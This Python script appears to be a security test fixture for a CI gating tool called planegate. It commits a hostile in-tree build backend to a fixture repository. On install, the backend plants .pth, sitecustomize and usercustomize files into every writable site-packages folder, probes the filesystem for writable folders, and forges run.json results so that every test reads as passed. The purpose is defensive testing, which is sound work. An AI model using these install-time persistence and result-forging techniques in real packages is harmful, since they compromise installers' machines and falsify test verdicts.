"""Add a hostile install to a fixture repository's patch (see scripts/fixture-repo.py).

usage: python scripts/fixture-hostile.py DIR

Commits, on DIR's checked-out branch, a `pyproject.toml` whose build backend lives in the tree
(`_build/backend.py`). Installing the project (the action's `setup: auto`, `pip install -e .`)
runs it, and it plants code: `_shop_attack.py` with a `.pth` and a `sitecustomize.py` that
import it, in every site folder it can write, and the same `.pth` in the wheel it builds.
Wherever the planted code runs it prints one line to stderr,

    planegate-attack: <how> ran: uid=<uid> isolated=<0|1> planegate=<True|False> argv=[...]

walks the file system trying to write into every folder (and `run.json` into any folder
named `exchange`), prints what it could write (and, inside the test child's sandbox, the
sandbox's own tmpfs folders, which are not the image's), and, inside planegate's own process, replaces
planegate's `run.json` writer by one that reports every test passed. The production code
tries the same writes when the tests import it. `scripts/image-smoke.sh` gates it together
with a real production bug (fixture-repo.py's plain-bug): the verdict must stay a failure.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

PYPROJECT = """[build-system]
requires = []
build-backend = "backend"
backend-path = ["_build"]

[project]
name = "shop"
version = "0.1"
"""

ATTACK = '''"""Planted by the patch's install: runs wherever a .pth or a sitecustomize brings it."""
import os
import sys

FORGED = '{"schema": "planegate-run/1", "forged": true}\\n'


def report(how):
    argv = getattr(sys, "orig_argv", sys.argv)
    inside = any("planegate" in part for part in argv)
    line = (
        f"planegate-attack: {how} ran: uid={os.getuid()} isolated={sys.flags.isolated} "
        f"planegate={inside} argv={argv}"
    )
    print(line, file=sys.stderr, flush=True)
    if inside:
        _forge()


def _forge():
    """Inside planegate's own process: every outcome passes in run.json."""
    try:
        import dataclasses

        from planegate.gate import exchange

        real = exchange.to_json

        def forged(execution):
            run = execution.head_run
            passed = {
                k: dataclasses.replace(v, outcome="passed", message="")
                for k, v in run.outcomes.items()
            }
            run = dataclasses.replace(run, outcomes=passed)
            return real(dataclasses.replace(execution, head_run=run))

        exchange.to_json = forged
        print("planegate-attack: run.json writer replaced", file=sys.stderr, flush=True)
    except Exception as error:  # noqa: BLE001
        print(f"planegate-attack: forging failed: {error!r}", file=sys.stderr, flush=True)


def probe(who):
    """Try to write into every folder (and run.json into any folder named exchange)."""
    skip = ("/proc", "/sys", "/dev", "/usr/share", "/usr/lib", "/var/lib", "/usr/include")
    found = []
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if not os.path.join(root, d).startswith(skip)]
        if root.count("/") > 6:
            dirs[:] = []
        name = os.path.join(root, ".planegate-attack-probe")
        try:
            with open(name, "x"):
                pass
            os.unlink(name)
            found.append(root)
        except OSError:
            pass
        if os.path.basename(root) == "exchange" or "run.json" in files:
            try:
                with open(os.path.join(root, "run.json"), "w") as handle:
                    handle.write(FORGED)
                found.append(os.path.join(root, "run.json"))
            except OSError:
                pass
    print(f"planegate-attack: {who} could write: {found}", file=sys.stderr, flush=True)
    print(f"planegate-attack: {who} private: {_private()}", file=sys.stderr, flush=True)
    return found


def _private():
    """The tmpfs mounts of this mount namespace when its pid 1 is bubblewrap (the test
    child's sandbox): folders of the sandbox's own, gone with it, not the image's."""
    try:
        with open("/proc/1/cmdline", "rb") as handle:
            first = handle.read().split(b"\\0")[0]
        if os.path.basename(first) != b"bwrap":
            return []
        with open("/proc/self/mountinfo") as handle:
            return [line.split()[4] for line in handle if " - tmpfs " in line]
    except OSError:
        return []
'''

PTH = "import _shop_attack; _shop_attack.report('.pth'); _shop_attack.probe('.pth')\n"
SITECUSTOMIZE = "import _shop_attack\n_shop_attack.report('sitecustomize')\n"

BACKEND = '''"""An in-tree build backend that plants code wherever it can (scripts/fixture-hostile.py)."""
import base64
import hashlib
import os
import site
import sys
import sysconfig
import zipfile

NAME, VERSION = "shop", "0.1"
DIST = f"{NAME}-{VERSION}.dist-info"
HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)


def _read(name):
    with open(os.path.join(HERE, name)) as handle:
        return handle.read()


def _folders():
    folders = set(site.getsitepackages()) | {site.getusersitepackages()}
    folders |= {p for p in sys.path if p.endswith("site-packages")}
    prefix = os.environ.get("PIP_PREFIX")
    if prefix:
        folders.add(sysconfig.get_path("purelib", vars={"base": prefix, "platbase": prefix}))
    return sorted(folders)


def _plant():
    files = {
        "_shop_attack.py": _read("attack.txt"),
        "zz_shop_attack.pth": _read("pth.txt"),
        "sitecustomize.py": _read("sitecustomize.txt"),
        "usercustomize.py": _read("sitecustomize.txt"),
    }
    planted = []
    for folder in _folders():
        try:
            os.makedirs(folder, exist_ok=True)
            for name, text in files.items():
                with open(os.path.join(folder, name), "w") as handle:
                    handle.write(text)
            planted.append(folder)
        except OSError:
            pass
    print(f"planegate-attack: backend planted into {planted}", file=sys.stderr, flush=True)


def _wheel(directory):
    name = f"{NAME}-{VERSION}-py3-none-any.whl"
    files = {
        "_shop_attack.py": _read("attack.txt"),
        "zz_shop_attack.pth": _read("pth.txt"),
        "shop.pth": ROOT + "\\n",
        f"{DIST}/METADATA": f"Metadata-Version: 2.1\\nName: {NAME}\\nVersion: {VERSION}\\n",
        f"{DIST}/WHEEL": "Wheel-Version: 1.0\\nGenerator: backend\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
    }
    record = []
    with zipfile.ZipFile(os.path.join(directory, name), "w") as archive:
        for path, text in files.items():
            data = text.encode()
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=")
            record.append(f"{path},sha256={digest.decode()},{len(data)}")
            archive.writestr(path, data)
        record.append(f"{DIST}/RECORD,,")
        archive.writestr(f"{DIST}/RECORD", "\\n".join(record) + "\\n")
    return name


def get_requires_for_build_wheel(config_settings=None):
    return []


def get_requires_for_build_editable(config_settings=None):
    return []


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _plant()
    return _wheel(wheel_directory)


def build_editable(wheel_directory, config_settings=None, metadata_directory=None):
    _plant()
    return _wheel(wheel_directory)
'''

PRODUCTION = '''"""A tiny shop library: the production code the demo's patches change."""

try:  # what the install planted, tried again from the tests' own process
    import _shop_attack
except ImportError:
    pass
else:
    _shop_attack.probe("production code")
'''


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print(__doc__.strip().splitlines()[2], file=sys.stderr)
        return 64
    root = Path(argv[0])
    files = {
        "pyproject.toml": PYPROJECT,
        "_build/backend.py": BACKEND,
        # not named .py/.pth/sitecustomize in the tree: those would be protected paths
        "_build/attack.txt": ATTACK,
        "_build/pth.txt": PTH,
        "_build/sitecustomize.txt": SITECUSTOMIZE,
        "shop/__init__.py": PRODUCTION,
    }
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text, "utf-8")

    def git(*args: str) -> None:
        subprocess.run(["git", "-C", str(root), *args], check=True, capture_output=True)

    git("add", "-A")
    identity = ["-c", "user.name=fixture", "-c", "user.email=fixture@example.invalid"]
    git(*identity, "commit", "-q", "-m", "patch: a build backend that plants code everywhere")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
